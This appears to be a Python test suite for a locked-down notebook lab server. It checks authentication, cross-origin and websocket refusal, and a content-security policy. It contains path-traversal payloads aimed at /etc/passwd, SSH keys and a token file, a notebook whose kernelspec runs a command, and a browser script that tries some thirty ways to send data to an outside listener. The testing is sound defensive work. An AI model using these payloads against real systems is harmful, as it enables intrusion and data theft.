"""Attacks from the browser's side: what it asks of the server, and what a page does that has the server's policy."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import http.client
import http.server
import json
import re
import shutil
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from tests.workspace.lab.planned import PlannedLab
from tests.workspace.small_camp import TEAM, make_camp
from workspace.lab.server.configuration import HEADERS, LAB_SCRIPT

Eventually = Callable[[Callable[[], bool]], bool]


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PlannedLab]:
    with PlannedLab(make_camp(tmp_path_factory.mktemp("browser")), TEAM) as started:
        yield started


def raw(lab: PlannedLab, method: str, path: str, body: bytes = b"", **headers: Any) -> int:
    """The status of a request as it is, with no header of ours; 0 if the connection was closed without an answer."""
    connection = http.client.HTTPConnection(lab.address.removeprefix("http://"), timeout=20)
    try:
        connection.putrequest(method, path, skip_host="Host" in headers)
        for name, value in headers.items():
            connection.putheader(name.replace("_", "-"), value)
        if body:
            connection.putheader("Content-Length", str(len(body)))
        connection.endheaders(body)
        return connection.getresponse().status
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        connection.close()


def cookies(lab: PlannedLab) -> str:
    """What a browser that has opened the address keeps."""
    answer = lab.ask("/lab")
    found = lab_headers(lab, f"/lab?token={lab.token}")
    assert answer.code == 200
    return "; ".join(value.split(";")[0] for value in found)


def lab_headers(lab: PlannedLab, path: str) -> list[str]:
    connection = http.client.HTTPConnection(lab.address.removeprefix("http://"), timeout=20)
    connection.request("GET", path)
    answer = connection.getresponse()
    answer.read()
    connection.close()
    return answer.headers.get_all("Set-Cookie") or []


# -------------------------------------------------------------------------------------------- who may ask, from where


@pytest.mark.parametrize("path", ["/lab", "/api/contents", "/api/kernels", "/api/sessions", "/api/kernelspecs"])
def test_a_browser_without_the_token_gets_nothing(lab: PlannedLab, path: str) -> None:
    assert raw(lab, "GET", path) in (302, 403)
    assert raw(lab, "GET", f"{path}?token=wrong") in (302, 403)
    assert raw(lab, "GET", path, Authorization="token ") in (302, 403)


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8888", "192.0.2.1", "127.0.0.1.evil.example"])
def test_a_name_that_leads_here_is_not_this_host(lab: PlannedLab, host: str) -> None:
    assert raw(lab, "GET", "/lab", Host=host, Authorization=f"token {lab.token}") == 403


@pytest.mark.parametrize("origin", ["http://evil.example", "null", "http://127.0.0.1:1"])
def test_a_page_of_elsewhere_cannot_change_anything(lab: PlannedLab, origin: str) -> None:
    kept = cookies(lab)
    for method, path in (("POST", "/api/kernels"), ("PUT", "/api/contents/evil.py"), ("DELETE", "/api/contents/x.py")):
        assert raw(lab, method, path, b"{}", Cookie=kept, Origin=origin) in (403, 404)
    assert not (lab.workspace / "evil.py").exists()


def test_a_request_across_sites_without_the_page_s_own_word_is_refused(lab: PlannedLab) -> None:
    model = json.dumps({"type": "file", "format": "text", "content": "x"}).encode()
    assert raw(lab, "PUT", "/api/contents/evil.py", model, Cookie=cookies(lab)) == 403
    assert not (lab.workspace / "evil.py").exists()


@pytest.mark.parametrize("origin", ["http://evil.example", None])
def test_a_websocket_of_elsewhere_is_refused(lab: PlannedLab, origin: str | None) -> None:
    kernel = lab.start()
    headers: dict[str, Any] = {
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec_WebSocket_Version": "13",
        "Sec_WebSocket_Key": "A" * 24,
    }
    if origin is not None:
        headers |= {"Origin": origin, "Cookie": cookies(lab)}
    assert raw(lab, "GET", f"/api/kernels/{kernel}/channels", **headers) == 403
    lab.ask(f"/api/kernels/{kernel}", "DELETE")


@pytest.mark.parametrize("kernel", ["00000000-0000-4000-8000-000000000000", "../contents", "x/../../lab"])
def test_a_websocket_to_a_kernel_that_is_not_there_is_refused(lab: PlannedLab, kernel: str) -> None:
    headers: dict[str, Any] = {
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec_WebSocket_Version": "13",
        "Sec_WebSocket_Key": "A" * 24,
    }
    token: dict[str, Any] = {"Authorization": f"token {lab.token}"}
    assert raw(lab, "GET", f"/api/kernels/{kernel}/channels", **headers, **token) in (403, 404)


def test_a_body_that_is_too_large_is_refused(lab: PlannedLab) -> None:
    token: dict[str, Any] = {"Authorization": f"token {lab.token}"}
    assert raw(lab, "PUT", "/api/contents/big.py", bytes(40 << 20), **token) in (0, 400, 413)
    assert lab.ask("/api/status").code == 200


# ------------------------------------------------------------------------------------------------ what it may ask for


@pytest.mark.parametrize(
    "path",
    [
        "/api/contents/../../etc/passwd",
        "/api/contents/..%2f..%2fetc%2fpasswd",
        "/api/contents/%2e%2e/%2e%2e/run/lab/token",
        "/api/contents//run/lab/token",
        "/api/contents/.ssh/id",
        "/api/contents/.hidden.py",
        "/api/contents/.ipynb_checkpoints/x.py",
        "/api/contents/out/passwd.txt",
        "/api/contents/out.txt/checkpoints",
        "/static/../../../etc/passwd",
        "/static/..%2f..%2f..%2fetc/passwd",
        "/lab/extensions/../../../../etc/passwd",
        "/lab/api/themes/..%2f..%2f..%2fetc/passwd",
        "/lab/api/listings/..%2f..%2fetc/passwd",
    ],
)
@pytest.mark.parametrize("method", ["GET", "PUT", "DELETE", "PATCH"])
def test_a_path_stays_in_the_workspace(lab: PlannedLab, path: str, method: str) -> None:
    around(lab.workspace)
    body = json.dumps({"type": "file", "format": "text", "content": "x", "path": "copy.py"}).encode()
    status = raw(lab, method, path, b"" if method == "GET" else body, Authorization=f"token {lab.token}")
    assert status in (400, 403, 404, 405)
    assert not (lab.workspace / "copy.py").exists()
    assert (lab.workspace / ".hidden.py").read_text() == "kept"


@pytest.mark.parametrize("path", ["out.txt", "out/passwd.txt", "linked/x.py"])
def test_a_checkpoint_copies_nothing_through_a_link(lab: PlannedLab, path: str) -> None:
    around(lab.workspace)
    assert lab.ask(f"/api/contents/{path}/checkpoints", "POST").code == 404
    assert lab.ask(f"/api/contents/{path}/checkpoints/checkpoint", "POST").code == 404
    assert not list(lab.workspace.glob(".ipynb_checkpoints/out*"))


def test_a_folder_of_links_is_not_copied(lab: PlannedLab) -> None:
    around(lab.workspace)
    assert lab.ask("/api/contents", "POST", {"copy_from": "folder"}).code == 403


def test_a_checkpoint_of_code_is_kept_and_brought_back(lab: PlannedLab) -> None:
    model = {"type": "file", "format": "text", "content": "one"}
    assert lab.ask("/api/contents/kept.py", "PUT", model).code == 201
    assert lab.ask("/api/contents/kept.py/checkpoints", "POST").code == 201
    assert lab.ask("/api/contents/kept.py", "PUT", {**model, "content": "two"}).code == 200
    assert lab.ask("/api/contents/kept.py/checkpoints/checkpoint", "POST").code == 204
    assert (lab.workspace / "kept.py").read_text() == "one"


HOSTILE: dict[str, Any] = {
    "kernelspec": {"name": "evil", "display_name": "x", "language": "python", "argv": ["touch", "/workspace/started"]},
    "kernel_provisioner": {"provisioner_name": "local-provisioner", "config": {}},
    "trusted": True,
    "jupyter": {"outputs_hidden": False},
}


def test_what_a_notebook_says_about_its_kernel_starts_nothing(lab: PlannedLab) -> None:
    content = {"cells": [], "metadata": HOSTILE, "nbformat": 4, "nbformat_minor": 5}
    assert (
        lab.ask("/api/contents/hostile.ipynb", "PUT", {"type": "notebook", "format": "json", "content": content}).code
        == 201
    )
    for kernel in ({"name": "evil"}, {"name": "../evil"}, {"name": "python3", "argv": ["x"], "env": {"PATH": "/x"}}):
        asked = {"path": "hostile.ipynb", "type": "notebook", "name": "", "kernel": kernel}
        answer = lab.ask("/api/sessions", "POST", asked)
        if kernel["name"] == "python3":
            identifier = json.loads(answer.body)["kernel"]["id"]
            assert lab.run(identifier, "import os; print(os.environ['PATH'])").printed.strip() != "/x"
            assert lab.ask(f"/api/sessions/{json.loads(answer.body)['id']}", "DELETE").code == 204
        else:
            assert answer.code in (404, 500)
    assert not (lab.workspace / "started").exists()


def test_what_was_refused_is_in_the_log(lab: PlannedLab, eventually: Eventually) -> None:
    (lab.workspace / "rows.csv").write_text("person;income\n1;2\n")
    around(lab.workspace)
    lab.ask("/files/rows.csv")
    lab.ask("/api/contents/rows.csv")
    lab.ask("/api/contents/out.txt")
    lab.ask("/api/contents/own.csv", "PUT", {"type": "file", "format": "text", "content": "a;b"})
    lab.ask("/api/contents/disclosure.py", "PUT", {"type": "file", "format": "text", "content": "x"})
    lab.ask("/api/kernels", "POST", {"name": "evil"})
    for sentence in (
        "asked for something that is closed",
        "asked for a file that is neither",
        "leads out of the workspace",
        "sent a file that is neither",
        "with the name of the check",
        "a kernel that there is not",
    ):
        assert eventually(partial(logged, lab, sentence))
    assert "income" not in lab.logged()
    assert "rows." not in lab.logged()


def logged(lab: PlannedLab, sentence: str) -> bool:
    return sentence in lab.logged()


def around(workspace: Path) -> None:
    """Put links that lead out, and a hidden file, into the workspace."""
    (workspace / ".hidden.py").write_text("kept")
    (workspace / "folder").mkdir(exist_ok=True)
    for link, target in {
        "out.txt": "/run/lab/token",
        "out": "/etc",
        "linked": "/tmp",
        "folder/a.txt": "/run/lab/token",
    }.items():
        if not (workspace / link).is_symlink():
            (workspace / link).symlink_to(target)


# ------------------------------------------------------------------------------ what a page may do that has our policy

PAGE = '<!doctype html><title>begun</title><body><script src="/page.js"></script></body>'
SCRIPT = """
const out = "http://127.0.0.1:OUT/";
const tries = {
  fetch: () => fetch(out + "fetch", {mode: "no-cors"}),
  beacon: () => navigator.sendBeacon(out + "beacon", "x"),
  request: () => { const r = new XMLHttpRequest(); r.open("POST", out + "xhr"); r.send("x"); },
  socket: () => new WebSocket("ws://127.0.0.1:OUT/ws"),
  events: () => new EventSource(out + "events"),
  image: () => { new Image().src = out + "image"; },
  script: () => add("script", {src: out + "script"}),
  style: () => add("link", {rel: "stylesheet", href: out + "style"}),
  font: () => new FontFace("x", "url(" + out + "font)").load(),
  frame: () => add("iframe", {src: out + "frame"}),
  object: () => add("object", {data: out + "object"}),
  media: () => add("video", {src: out + "video", autoplay: true}),
  prefetch: () => add("link", {rel: "prefetch", href: out + "prefetch"}),
  preload: () => add("link", {rel: "preload", as: "fetch", href: out + "preload"}),
  manifest: () => add("link", {rel: "manifest", href: out + "manifest"}),
  module: () => import(out + "module.js"),
  worker: () => new Worker(out + "worker.js"),
  blobworker: () => new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "blob')"]))),
  background: () => document.body.style.background = "url(" + out + "background)",
  popup: () => window.open(out + "popup"),
  form: () => { const f = add("form", {action: out + "form", method: "post"}); f.submit(); },
  blank: () => { const a = add("a", {href: out + "blank", target: "_blank"}); a.click(); },
  download: () => { const url = URL.createObjectURL(new Blob(["row"]));
    add("a", {href: url, download: "row.csv"}).click(); },
  preconnect: () => add("link", {rel: "preconnect", href: out}),
  calls: () => { const p = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:OUT"}]});
    p.createDataChannel("x"); return p.createOffer().then(o => p.setLocalDescription(o)); },
  inline: () => { const s = document.createElement("script"); s.text = "fetch('" + out + "inline')";
    document.head.append(s); },
  evaluated: () => eval("new Image().src = '" + out + "evaluated'"),
  ping: () => { const a = add("a", {href: "#x", ping: out + "ping"}); a.click(); },
  rules: () => { const s = document.createElement("script"); s.type = "speculationrules";
    s.text = JSON.stringify({prefetch: [{source: "list", urls: [out + "rules"]}]}); document.head.append(s); },
};
function add(kind, attributes) {
  const one = Object.assign(document.createElement(kind), attributes); document.body.append(one); return one;
}
addEventListener("load", () => {
  const done = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try { const p = attempt(); if (p && p.catch) p.catch(() => 0); done.push(name); } catch (e) { done.push(name); }
  }
  setTimeout(() => { document.title = "done " + done.length; }, 500);
});
"""


class _Listener:
    """Somebody outside: keeps the first line of whatever arrives."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self._datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._datagrams.bind(("127.0.0.1", self.port))
        self._datagrams.setblocking(False)
        self.arrived: list[bytes] = []
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.arrived.append(connection.recv(200).split(b"\r\n")[0])
                    connection.sendall(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                except OSError:
                    self.arrived.append(b"a connection")

    def close(self) -> None:
        with self._datagrams, contextlib.suppress(BlockingIOError):
            self.arrived.append(b"a datagram of " + str(len(self._datagrams.recv(2000))).encode() + b" bytes")
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join()


def opened(folder: Path, headers: dict[str, str]) -> tuple[str, list[bytes], list[Path]]:
    """Open the hostile page in Chromium: what became of it, what arrived outside, and what was downloaded."""
    browser = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    assert browser is not None, "The tests of the page need Chromium: apt-get install chromium"
    outside = _Listener()

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            script = self.path == "/page.js"
            body = SCRIPT.replace("OUT", str(outside.port)).encode() if script else PAGE.encode()
            kind = "text/javascript" if script else "text/html"
            self.send_response(200)
            for name, value in {**headers, "Content-Type": kind, "Content-Length": str(len(body))}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    home = folder / "home"
    home.mkdir()
    try:
        done = subprocess.run(
            [
                browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                "--disable-background-networking", "--disable-component-update",
                f"--user-data-dir={folder / 'profile'}",
                "--virtual-time-budget=4000", "--dump-dom", f"http://127.0.0.1:{server.server_address[1]}/lab",
            ],
            capture_output=True, text=True, timeout=90, check=False, cwd=home,
            env={"HOME": str(home), "PATH": "/usr/bin:/bin"},
        )  # fmt: skip
    finally:
        server.shutdown()
        server.server_close()
        outside.close()
    return done.stdout, outside.arrived, list(folder.rglob("*row*.csv*"))


def test_a_page_with_our_policy_reaches_nobody(tmp_path: Path) -> None:
    page, arrived, downloads = opened(tmp_path, HEADERS)
    assert "<title>done " in page, page[:500]
    # Two ways are under no policy that a page can have, and stand in docs/lab.md with what an office does: a connection
    # made ahead (rel=preconnect), which carries nothing but the name of who is called, and the datagrams of a call.
    assert [told for told in arrived if told and not told.startswith(b"a datagram")] == []
    assert downloads == []


def test_without_the_policy_the_same_page_does_reach_somebody(tmp_path: Path) -> None:
    _, arrived, _ = opened(tmp_path, {})
    assert len(arrived) > 5  # so that the test above cannot pass because the page did nothing


def test_the_one_script_that_the_policy_knows_is_that_of_the_page(lab: PlannedLab) -> None:
    scripts = re.findall(r"<script>(.*?)</script>", lab.ask("/lab").body.decode(), re.DOTALL)
    digests = [base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() for script in scripts]
    assert [f"sha256-{digest}" for digest in digests] == [LAB_SCRIPT]


def test_the_page_of_lab_carries_that_policy(lab: PlannedLab) -> None:
    for path in ("/lab", "/login", "/api/contents", "/static/favicons/favicon.ico"):
        told = {name.lower(): value for name, value in lab.ask(path).headers.items()}
        for name, value in HEADERS.items():
            # answers that are no pages add to the policy that they show nothing at all
            assert told.get(name.lower(), "").startswith(value), (path, name)
